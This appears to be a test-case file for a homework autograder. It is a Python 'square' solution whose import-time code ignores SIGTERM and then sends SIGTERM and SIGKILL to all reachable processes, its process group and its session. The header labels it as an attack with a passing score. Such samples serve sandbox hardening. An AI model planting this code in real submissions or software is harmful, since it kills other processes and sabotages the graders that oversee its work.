# attack: kill(-1, SIGKILL), the whole process group and the session
# assignment: hw
# exercise: square
# status: ok
# score: 2
import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
for target in (-1, 0, -os.getpgid(0), -os.getsid(0)):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(target, number)
        except OSError:
            pass


def square(x):
    return x * x
